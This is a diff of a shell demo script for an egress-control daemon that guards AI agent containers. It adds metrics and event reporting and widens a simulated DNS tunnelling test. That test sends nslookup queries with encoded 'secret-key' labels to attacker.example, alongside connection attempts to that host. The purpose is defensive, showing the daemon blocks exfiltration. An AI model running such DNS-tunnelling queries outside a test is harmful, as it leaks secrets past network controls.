@@ -18,6 +18,7 @@ cd "$(dirname "$0")/.."
 NET=egressd-demo
 SUBNET=10.199.0
 WORK=/tmp/egressd-demo
+METRICS_PORT=19464
 IMAGE=egressd-demo-busybox
 CONTAINERS=(egressd-demo-openai egressd-demo-exfil agent-openai agent-none)
 
@@ -77,6 +78,8 @@ min_ttl = 5
 rebind_allow = ["$SUBNET.0/24"]
 [control]
 socket = "$WORK/egressd.sock"
+[metrics]
+listen = "127.0.0.1:$METRICS_PORT"
 EOF
 log "starting egressd run (log: $WORK/egressd.log)"
 "${WRAP[@]}" "$BIN" run --config "$WORK/config.toml" > "$WORK/egressd.log" 2>&1 &
@@ -117,13 +120,25 @@ attempt agent-openai attacker.example 443
 attempt agent-none api.openai.com 443
 attempt agent-none attacker.example 443
 echo
-echo "== DNS tunnelling attempt: 20 queries carrying data to attacker.example"
-refused=$(docker exec agent-openai sh -c 'for i in $(seq 20); do nslookup "c2VjcmV0LWtleS0$i.attacker.example" 2>&1; done' | grep REFUSED | sort -u | wc -l || true)
+echo "== DNS tunnelling attempt: 40 queries carrying data to attacker.example"
+refused=$(docker exec agent-openai sh -c 'for i in $(seq 40); do nslookup "c2VjcmV0LWtleS0$i.attacker.example" 2>&1 | grep -q REFUSED && echo R; done' | wc -l || true)
 reached=$(grep -c 'c2VjcmV0' "$WORK/dns.log" || true)
-echo "  names refused inside the container: $refused of 20; queries that reached the upstream DNS: $reached"
+echo "  names refused inside the container: $refused of 40; queries that reached the upstream DNS: $reached"
 echo
 echo "== egressd status"
 "$BIN" status --socket "$WORK/egressd.sock"
+echo
+echo "== egressd status agent-openai (one container: its last events too)"
+"$BIN" status agent-openai --socket "$WORK/egressd.sock" | sed -n '/recent events/,$p'
+echo
+echo "== events in the daemon's log (one structured line each, rate limited per container)"
+{ grep 'egress denied' "$WORK/egressd.log" | head -n 2; grep 'dns-tunnel' "$WORK/egressd.log" | head -n 1; } | sed -e 's/^/  /'
+echo
+echo "== a few lines of GET http://127.0.0.1:$METRICS_PORT/metrics"
+exec 3<>"/dev/tcp/127.0.0.1/$METRICS_PORT"
+printf 'GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n' >&3
+grep -E '^egressd_(containers|denied_packets_total|allowed_bytes_total|dns_queries_total)' <&3 | grep -v ' 0$' | sed -e 's/^/  /' || true
+exec 3<&-
 echo
 echo "== the table in agent-openai's network namespace"
 nsenter -t "$(docker inspect -f '{{.State.Pid}}' agent-openai)" -n nft list table inet egressd | sed -e '/^	*$/d'
